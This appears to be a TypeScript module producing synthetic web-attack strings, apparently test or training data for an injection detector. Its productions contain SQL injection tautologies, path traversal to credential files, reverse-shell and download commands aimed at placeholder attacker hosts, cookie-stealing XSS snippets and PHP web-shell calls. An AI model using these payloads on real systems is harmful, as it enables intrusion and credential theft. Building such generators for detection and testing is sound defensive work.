import { between, letters, pick, type Random } from "./random.ts";
import { AGENTS, CITIES, CLIENTS, FOREIGN, LATIN, NAMES, SENTENCES, SITES, WORDS } from "./words.ts";

const HEX = "0123456789abcdef";
const ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
const BASE64URL = `${ALNUM}-_`;
const choice =
  (text: string) =>
  (random: Random): string =>
    pick(random, text.split("¦"));

function uuid(random: Random): string {
  return [8, 4, 4, 4, 12].map((length) => letters(random, length, HEX)).join("-");
}

function equal(random: Random): string {
  const word = letters(random, between(random, 1, 4));
  const number = between(random, 1, 9999);
  return pick(random, [
    `${number}=${number}`,
    `'${word}'='${word}'`,
    `${number} = ${number}`,
    `${number}<${number + 1}`,
  ]);
}

function quotedEqual(quote: string, random: Random): string {
  const word = letters(random, between(random, 1, 4));
  const gap = pick(random, ["", "", " "]);
  return `${quote}${word}${quote}${gap}=${gap}${quote}${word}`;
}

function nulls(random: Random): string {
  const width = between(random, 1, 9);
  const item = pick(random, ["null", "NULL", "1", "'a'", "0x61", "@@version", "version()"]);
  return Array.from({ length: width }, (_, at) => (random() < 0.7 ? item : String(at + 1))).join(",");
}

function date(random: Random): string {
  const two = (value: number): string => String(value).padStart(2, "0");
  return `20${between(random, 18, 26)}-${two(between(random, 1, 12))}-${two(between(random, 1, 28))}`;
}

function jwt(random: Random): string {
  const claims = {
    sub: String(between(random, 1, 99999)),
    iat: 1_700_000_000 + between(random, 0, 9_999_999),
  };
  const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString("base64url");
  return `${part({ alg: "HS256", typ: "JWT" })}.${part(claims)}.${letters(random, 43, BASE64URL)}`;
}

function bytes64(random: Random, low: number, high: number): string {
  const size = between(random, low, high);
  return Buffer.from(Array.from({ length: size }, () => between(random, 0, 255))).toString("base64");
}

/** Symbols of patterns; a result may itself be a pattern. */
export const PRODUCTIONS: Readonly<Record<string, (random: Random) => string>> = {
  int: (random) => String(between(random, 1, 99_999)),
  digit: (random) => String(between(random, 1, 9)),
  secs: (random) => String(between(random, 3, 20)),
  word: (random) => pick(random, WORDS),
  id: (random) => letters(random, between(random, 3, 8)),
  name: (random) => pick(random, NAMES),
  city: (random) => pick(random, CITIES),
  latin: (random) => pick(random, LATIN),
  foreign: (random) => pick(random, FOREIGN),
  sentence: (random) => pick(random, SENTENCES),
  site: (random) => pick(random, SITES),
  agent: (random) => pick(random, AGENTS),
  client: (random) => pick(random, CLIENTS),
  uuid,
  date,
  jwt,
  hex8: (random) => letters(random, 8, HEX),
  hex32: (random) => letters(random, 32, HEX),
  sha: (random) => letters(random, 40, HEX),
  hex64: (random) => letters(random, 64, HEX),
  token: (random) => letters(random, between(random, 20, 60), BASE64URL),
  bin64: (random) => bytes64(random, 20, 90),
  longbin64: (random) => bytes64(random, 300, 900),
  digits: (random) => letters(random, between(random, 8, 14), "123456789"),
  email: (random) =>
    `${letters(random, between(random, 3, 9))}${pick(random, ["", "+news", ".o'neil", "_x", ".b"])}@example.${pick(random, ["com", "org", "net"])}`,
  ip: (random) => [203, 0, 113, between(random, 1, 254)].join("."),
  inner: (random) =>
    pick(random, [
      `10.${between(random, 0, 255)}.${between(random, 0, 255)}.${between(random, 1, 254)}`,
      `192.168.${between(random, 0, 30)}.${between(random, 1, 254)}`,
      `172.${between(random, 16, 31)}.0.${between(random, 1, 254)}`,
      "127.0.0.1",
      "localhost",
    ]),
  evil: (random) =>
    `${letters(random, between(random, 4, 9))}.${pick(random, ["attacker.test", "evil.example", "oast.example", "x1.example.net"])}`,
  port: (random) =>
    String(pick(random, [22, 80, 443, 3306, 5432, 6379, 8080, 8443, 9200, 11211, 2375, 8500])),
  ts: (random) => String(1_700_000_000 + between(random, 0, 60_000_000)),
  equal,
  sqtaut: (random) => quotedEqual("'", random),
  dqtaut: (random) => quotedEqual('"', random),
  nulls,
  sp: choice(" ¦ ¦ ¦/**/¦␉¦⏎¦  ¦/*x*/¦+"),
  end: choice("--¦-- -¦-- ¦#¦;--¦--+¦/*¦;%00¦ -- x"),
  climb: (random) => "../".repeat(between(random, 1, 10)),
  climbwin: (random) => "..\\".repeat(between(random, 1, 10)),
  unixfile: choice(
    "etc/passwd¦etc/shadow¦etc/hosts¦etc/group¦proc/self/environ¦proc/self/cmdline¦etc/ssh/sshd_config¦var/log/apache2/access.log¦root/.ssh/id_rsa¦root/.bash_history¦home/admin/.aws/credentials¦etc/nginx/nginx.conf¦var/log/auth.log¦etc/mysql/my.cnf¦etc/crontab¦proc/version¦etc/issue",
  ),
  winfile: choice(
    "windows/win.ini¦boot.ini¦windows/system32/drivers/etc/hosts¦inetpub/wwwroot/web.config¦windows/system.ini¦winnt/win.ini¦windows/repair/sam¦windows/system32/config/sam¦windows/php.ini¦xampp/apache/conf/httpd.conf¦users/administrator/ntuser.dat",
  ),
  unixcmd: choice(
    "id¦whoami¦uname -a¦cat /etc/passwd¦ls -la¦ls¦ps aux¦ifconfig¦netstat -an¦pwd¦env¦sleep 5¦wget http://«evil»/x.sh -O /tmp/x¦curl http://«evil»/«id»¦ping -c 3 «evil»¦nslookup «evil»¦rm -rf /tmp/x¦echo «id»¦cat /etc/hosts¦head -1 /etc/passwd¦nc -e /bin/sh «evil» 4444¦bash -i >& /dev/tcp/«ip»/4444 0>&1¦python3 -c 'import os;os.system(\"id\")'¦find / -name *.conf¦chmod 777 /tmp/x¦tail /var/log/auth.log¦hostname¦uptime¦date¦w¦last¦crontab -l¦dig «evil»",
  ),
  wincmd: choice(
    "dir¦dir c:\\¦ipconfig /all¦net user¦type c:\\windows\\win.ini¦whoami /all¦systeminfo¦tasklist¦ping -n 5 127.0.0.1¦net localgroup administrators¦certutil -urlcache -f http://«evil»/x.exe x.exe¦powershell -c whoami¦ver¦set¦netstat -ano¦reg query HKLM¦nslookup «evil»",
  ),
  js: choice(
    "alert(1)¦alert(document.domain)¦confirm(1)¦prompt(1)¦alert`1`¦alert(document.cookie)¦fetch('//«evil»/?'+document.cookie)¦eval(atob('YWxlcnQoMSk='))¦location='//«evil»/'+document.cookie¦console.log(1)¦import('//«evil»/x.js')¦print()¦eval(name)¦window.open('//«evil»')¦top.alert(1)¦alert(origin)¦(alert)(1)¦new Image().src='//«evil»/'+document.cookie¦setTimeout(alert,1)",
  ),
  phpcall: choice(
    "system('id')¦phpinfo()¦echo shell_exec('«unixcmd»')¦passthru($_GET[1])¦eval($_POST[x])¦exec('id')¦echo file_get_contents('/etc/passwd')¦die(md5(«int»))¦assert($_REQUEST[a])¦popen('id','r')",
  ),
  event: choice(
    "onerror¦onload¦onclick¦onmouseover¦onfocus¦ontoggle¦onpointerenter¦onanimationstart¦onbegin¦onwheel¦onauxclick¦onpageshow¦onscroll¦onfocusin¦onhashchange¦oncut¦onpaste¦onstart¦ontransitionend¦onbeforetoggle¦onsecuritypolicyviolation¦onratechange¦oncuechange¦onpointerrawupdate¦oncontentvisibilityautostatechange¦onbounce¦onresize",
  ),
};
